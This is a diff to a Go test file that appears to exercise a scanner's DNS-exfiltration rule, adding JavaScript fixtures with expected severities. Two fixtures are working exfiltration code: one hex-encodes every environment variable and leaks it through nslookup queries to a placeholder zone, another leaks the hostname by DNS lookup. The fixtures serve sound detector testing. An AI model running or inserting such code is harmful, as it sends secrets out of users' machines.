@@ -68,6 +68,11 @@ func TestRawIP(t *testing.T) {
 
 func TestDNSExfil(t *testing.T) {
 	rt.Check(t, DNSExfil{}, []rt.Case{
+		// nslookup run for labels of the environment under a constant
+		// zone; dig asked for the MX of the domain a user typed
+		{"nslookup_labels", map[string]string{"index.js": "const { execFile } = require('child_process'); const hex = Buffer.from(JSON.stringify(Object.entries(process.env))).toString('hex');\n" +
+			"hex.match(/.{1,60}/g).forEach((p, i) => execFile('nslookup', [`${p}.${i}.z.example.invalid`]))"}, finding.SeverityCritical},
+		{"dig_user_domain", map[string]string{"index.js": "const { execFile } = require('child_process'); const home = process.env.HOME; exports.mx = (domain) => execFile('dig', [`${domain}`, 'MX'])"}, finding.SeverityNone},
 		// the dns module loaded by name at run time into an object
 		{"hex_labels_module_object", map[string]string{"index.js": "const m = {}; ['dns', 'os'].forEach((n, i) => { m['m' + i] = require(n) }); const h = Buffer.from(m.m1.hostname()).toString('hex'); m.m0.resolve4(`${h}.x.example.invalid`, () => {})"}, finding.SeverityCritical},
 		// chunks cut by a helper of the package into labels under a
